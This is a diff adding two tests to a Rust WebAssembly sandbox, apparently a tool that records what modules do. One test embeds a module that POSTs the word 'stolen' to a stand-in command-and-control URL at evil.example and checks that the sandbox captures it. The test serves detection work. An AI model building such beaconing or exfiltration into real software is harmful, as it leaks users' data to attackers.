@@ -3,7 +3,7 @@
 use wasmspoor::{
     Value,
     limitation::Limitation,
-    sandbox::{Answer, EntryEnd, Pointed, Run, RunOptions, Status},
+    sandbox::{Answer, EntryEnd, EntryKind, Pointed, Run, RunOptions, Status},
 };
 
 use super::{results, run, run_with};
@@ -277,6 +277,86 @@ fn a_core_module_of_wasi_0_2_prints_and_is_named_by_preview1() {
     assert_eq!((&run.stdout[..], run.exit_code), (&b"hi\n"[..], Some(0)));
     let named: Vec<_> = run.calls.iter().filter_map(wasmspoor::categories::wasi_function).collect();
     assert_eq!(named, ["get-stdout", "fd_write", "proc_exit"]);
+}
+
+/// What is sent over HTTP has the name of the host that it goes to, and begins with the whole URL.
+#[test]
+fn a_request_over_http_is_a_connection_to_its_host() {
+    let run = run(r#"(module
+        (import "wasi:http/types@0.2.3" "[constructor]fields" (func $fields (result i32)))
+        (import "wasi:http/types@0.2.3" "[constructor]outgoing-request" (func $new (param i32) (result i32)))
+        (import "wasi:http/types@0.2.3" "[method]outgoing-request.set-method"
+            (func $method (param i32 i32 i32 i32) (result i32)))
+        (import "wasi:http/types@0.2.3" "[method]outgoing-request.set-scheme"
+            (func $scheme (param i32 i32 i32 i32 i32) (result i32)))
+        (import "wasi:http/types@0.2.3" "[method]outgoing-request.set-authority"
+            (func $host (param i32 i32 i32 i32) (result i32)))
+        (import "wasi:http/types@0.2.3" "[method]outgoing-request.set-path-with-query"
+            (func $path (param i32 i32 i32 i32) (result i32)))
+        (import "wasi:http/types@0.2.3" "[method]outgoing-request.body" (func $body (param i32 i32)))
+        (import "wasi:http/types@0.2.3" "[method]outgoing-body.write" (func $stream (param i32 i32)))
+        (import "wasi:io/streams@0.2.3" "[method]output-stream.blocking-write-and-flush"
+            (func $write (param i32 i32 i32 i32)))
+        (import "wasi:http/outgoing-handler@0.2.3" "handle" (func $send (param i32 i32 i32 i32)))
+        (memory (export "memory") 1)
+        (data (i32.const 16) "evil.example") (data (i32.const 32) "/c2?x=1") (data (i32.const 48) "stolen")
+        (func (export "wasi:cli/run@0.2.3#run") (result i32) (local $r i32)
+            (local.set $r (call $new (call $fields)))
+            (drop (call $method (local.get $r) (i32.const 2) (i32.const 0) (i32.const 0)))
+            (drop (call $scheme (local.get $r) (i32.const 1) (i32.const 0) (i32.const 0) (i32.const 0)))
+            (drop (call $host (local.get $r) (i32.const 1) (i32.const 16) (i32.const 12)))
+            (drop (call $path (local.get $r) (i32.const 1) (i32.const 32) (i32.const 7)))
+            (call $body (local.get $r) (i32.const 64))
+            (call $stream (i32.load (i32.const 68)) (i32.const 80))
+            (call $write (i32.load (i32.const 84)) (i32.const 48) (i32.const 6) (i32.const 96))
+            (call $send (local.get $r) (i32.const 0) (i32.const 0) (i32.const 112))
+            (i32.load8_u (i32.const 112))))"#);
+    assert_eq!(run.entries[0].results, [Value::I32(1)], "nobody answers");
+    let sent: Vec<_> =
+        run.connections.iter().map(|one| (&*one.name, String::from_utf8_lossy(&one.sent))).collect();
+    let expected = "POST http://evil.example/c2?x=1 HTTP/1.1\r\nhost: evil.example\r\n\r\nstolen";
+    assert_eq!(sent, [("evil.example", expected.into())]);
+}
+
+/// A program that serves is handed a request and a place for its answer; the answer goes to its client.
+#[test]
+fn a_program_that_serves_is_handed_a_request() {
+    let run = run(r#"(module
+        (import "wasi:http/types@0.2.3" "[method]incoming-request.path-with-query" (func $path (param i32 i32)))
+        (import "wasi:http/types@0.2.3" "[method]incoming-request.method" (func $method (param i32 i32)))
+        (import "wasi:http/types@0.2.3" "[constructor]fields" (func $fields (result i32)))
+        (import "wasi:http/types@0.2.3" "[constructor]outgoing-response" (func $new (param i32) (result i32)))
+        (import "wasi:http/types@0.2.3" "[method]outgoing-response.body" (func $body (param i32 i32)))
+        (import "wasi:http/types@0.2.3" "[method]outgoing-body.write" (func $stream (param i32 i32)))
+        (import "wasi:http/types@0.2.3" "[static]response-outparam.set"
+            (func $set (param i32 i32 i32 i32 i64 i32 i32 i32 i32)))
+        (import "wasi:io/streams@0.2.3" "[method]output-stream.blocking-write-and-flush"
+            (func $write (param i32 i32 i32 i32)))
+        (memory (export "memory") 1) (global $top (mut i32) (i32.const 4096))
+        (data (i32.const 256) "GET of ")
+        (func (export "cabi_realloc") (param i32 i32 i32 i32) (result i32)
+            (global.set $top (i32.add (global.get $top) (i32.const 64))) (global.get $top))
+        (func (export "wasi:http/incoming-handler@0.2.3#handle") (param $request i32) (param $to i32)
+            (local $response i32) (local $out i32)
+            (i32.store8 (i32.const 16) (i32.const 99))
+            (call $method (local.get $request) (i32.const 16))
+            (if (i32.load8_u (i32.const 16)) (then unreachable))
+            (call $path (local.get $request) (i32.const 32))
+            (if (i32.eqz (i32.load8_u (i32.const 32))) (then unreachable))
+            (local.set $response (call $new (call $fields)))
+            (call $body (local.get $response) (i32.const 48))
+            (call $stream (i32.load (i32.const 52)) (i32.const 64))
+            (local.set $out (i32.load (i32.const 68)))
+            (call $set (local.get $to) (i32.const 0) (local.get $response) (i32.const 0) (i64.const 0) (i32.const 0)
+                (i32.const 0) (i32.const 0) (i32.const 0))
+            (call $write (local.get $out) (i32.const 256) (i32.const 7) (i32.const 80))
+            (call $write (local.get $out) (i32.load (i32.const 36)) (i32.load (i32.const 40)) (i32.const 80)))
+        )"#);
+    let entries: Vec<_> = run.entries.iter().map(|entry| (entry.kind, entry.made_up)).collect();
+    assert_eq!(entries, [(EntryKind::Main, false)], "{:?}", run.entries);
+    assert_eq!(run.entries[0].end, EntryEnd::Returned);
+    let sent: Vec<_> = run.connections.iter().map(|one| (&*one.name, &one.sent[..])).collect();
+    assert_eq!(sent, [("client of wasi:http", &b"GET of /"[..])]);
 }
 
 /// A module of Node-API registers its functions before it makes its exports; what they are given are bytes,
